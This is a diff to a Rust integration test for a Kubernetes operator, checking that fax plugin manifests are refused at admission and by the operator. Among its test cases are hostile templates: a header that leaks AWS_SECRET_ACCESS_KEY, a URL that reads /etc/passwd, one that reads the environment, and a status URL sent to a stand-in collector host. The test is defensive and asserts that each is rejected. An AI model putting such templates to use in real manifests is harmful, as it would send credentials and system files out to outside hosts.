@@ -795,6 +795,39 @@ async fn plugin_manifests_are_refused_at_admission_and_by_the_operator() {
             "declares no webhook verification",
         ),
         ("bad id", manifest_resource("bad-id", |m| m["id"] = json!("Not An Id")), "spec.manifest.id"),
+        (
+            "a host outside allowedDomains",
+            manifest_resource("elsewhere", |m| {
+                m["actions"]["status"]["url"] = json!("https://collector.example.net/{{ provider_id }}")
+            }),
+            "an action URL's host is not in allowedDomains",
+        ),
+        (
+            "plain http",
+            manifest_resource("plain", |m| m["actions"]["send"]["url"] = json!("http://api.phaxio.com/v2.1/faxes")),
+            "must be an https URL whose host is written out",
+        ),
+        (
+            "a templated host",
+            manifest_resource("templated", |m| {
+                m["actions"]["send"]["url"] = json!("https://{{ settings.host }}/v2.1/faxes")
+            }),
+            "must be an https URL whose host is written out",
+        ),
+        (
+            "a template reading the environment",
+            manifest_resource("env", |m| {
+                m["actions"]["send"]["headers"] = json!({"X-Leak": "{{ env.AWS_SECRET_ACCESS_KEY }}"})
+            }),
+            "templates cannot read the environment or files",
+        ),
+        (
+            "a template reading a file",
+            manifest_resource("file", |m| {
+                m["actions"]["status"]["url"] = json!("https://api.phaxio.com/{{ file('/etc/passwd') }}")
+            }),
+            "templates cannot read the environment or files",
+        ),
     ];
     for (what, resource, fragment) in cases {
         let err = apply_json::<FaxPluginManifest>(&client, &ns, resource).await.expect_err(what);
@@ -810,7 +843,7 @@ async fn plugin_manifests_are_refused_at_admission_and_by_the_operator() {
         &ns,
         manifest_resource("gateway", |m| {
             m["id"] = json!("gateway-fax");
-            m["allowedDomains"] = json!(["10.20.30.40"]);
+            m["allowedDomains"] = json!(["api.phaxio.com", "10.20.30.40"]);
             m["allowPrivateNetwork"] = json!(true);
         }),
     )
@@ -818,15 +851,15 @@ async fn plugin_manifests_are_refused_at_admission_and_by_the_operator() {
     .unwrap();
     apply_json::<FaxPluginManifest>(&client, &ns, manifest_resource("phaxio", |_| {})).await.unwrap();
 
-    // What CEL cannot see, the operator refuses with the API server's own check: a template that reads the
-    // environment, a host outside allowedDomains.
+    // What CEL cannot see, the operator refuses with the API server's own check: a body template (the body is
+    // not typed) that reads the environment by another spelling, a filter that does not exist.
     let _operator = Operator::start(&kubeconfig, &ns, "op-m");
     apply_json::<FaxPluginManifest>(
         &client,
         &ns,
         manifest_resource("leaky", |m| {
-            m["actions"]["send"]["headers"] = json!({"X-Leak": "{{ env.AWS_SECRET_ACCESS_KEY }}"});
-            m["actions"]["status"]["url"] = json!("https://collector.example.net/{{ provider_id }}");
+            m["actions"]["send"]["body"]["fields"]["to"] = json!("{{ environ['HOME'] }}");
+            m["actions"]["status"]["url"] = json!("https://api.phaxio.com/v2.1/faxes/{{ provider_id | tojson }}");
         }),
     )
     .await
@@ -851,10 +884,12 @@ async fn plugin_manifests_are_refused_at_admission_and_by_the_operator() {
     let (reason, message) = ready("leaky").await;
     assert_eq!(reason, "InvalidManifest", "{message}");
     assert!(
-        message.contains("spec.manifest.actions.send.headers.X-Leak: reads `env.AWS_SECRET_ACCESS_KEY`"),
+        message.contains(
+            "spec.manifest.actions.send.body.fields.to: reads `environ`: templates cannot read the environment"
+        ),
         "{message}"
     );
-    assert!(message.contains("host `collector.example.net` is not in allowedDomains"), "{message}");
+    assert!(message.contains("spec.manifest.actions.status.url: uses a filter that is not available"), "{message}");
     let events = events_for(&client, &ns, "leaky").await;
     assert!(
         events.iter().any(|e| e.reason.as_deref() == Some("InvalidManifest") && e.type_.as_deref() == Some("Warning")),
